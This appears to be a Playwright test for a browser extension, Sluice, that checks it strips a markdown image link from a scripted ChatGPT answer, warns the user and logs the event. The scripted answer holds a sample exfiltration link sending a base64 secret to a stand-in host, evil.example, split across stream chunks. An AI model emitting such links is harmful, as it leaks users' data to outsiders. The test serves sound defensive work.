/** What the extension makes of an answer that would carry data away: its user is told, and it is on record. */
import { CHATGPT, CHATGPT_COMPOSER } from "../support/chat-page";
import { accessibilityTree } from "../support/dialog";
import { readDatabases } from "../support/extension";
import { expect, test } from "../support/one-browser";
import { waitFor } from "../support/wait-for";

const SECRET = "QXBwbGUgdmF1bHQgMTIzNDU2Nzg5MCBmb3IgQWRh"; // base64 of words

test("an image address is taken out, told on the page and in the popup, and on record", async ({
  page,
  chat,
  shared,
  extensionId,
}) => {
  const events = ["See ![x](https://pics.evil", `.example/?d=${SECRET}`, ") there"];
  chat.script("leak", {
    type: "text/event-stream",
    pieces: events.map((v) => `event: delta\ndata: ${JSON.stringify({ v })}\n\n`),
  });
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(CHATGPT);
  await page.locator(CHATGPT_COMPOSER).waitFor();
  const answer = await page.evaluate(async () => {
    const body = JSON.stringify({
      messages: [
        { author: { role: "user" }, content: { content_type: "text", parts: ["Good morning"] } },
      ],
    });
    const init = { method: "POST", body };
    const response = await fetch("/backend-api/f/conversation?script=leak", init);
    return response.text();
  });
  expect(answer).not.toContain(SECRET);
  expect(answer).toContain("removed by Sluice: evil.example");
  const told =
    "Sluice removed an image address in the answer that would have sent data to evil.example";
  await waitFor("the notice", async () =>
    (await accessibilityTree(page)).some(({ name }) => String(name?.value ?? "").startsWith(told)),
  );
  const popup = await shared.newPage();
  await popup.goto(`chrome-extension://${extensionId}/popup.html`);
  await waitFor("the line in the popup", async () =>
    (await popup.locator("body").innerText()).includes(told),
  );
  const stored = JSON.stringify(await readDatabases(popup));
  expect(stored).toContain('"image:evil.example"');
  expect(stored).not.toContain(SECRET);
  await popup.close();
  expect(asked.filter((url) => url.includes("evil"))).toEqual([]);
});
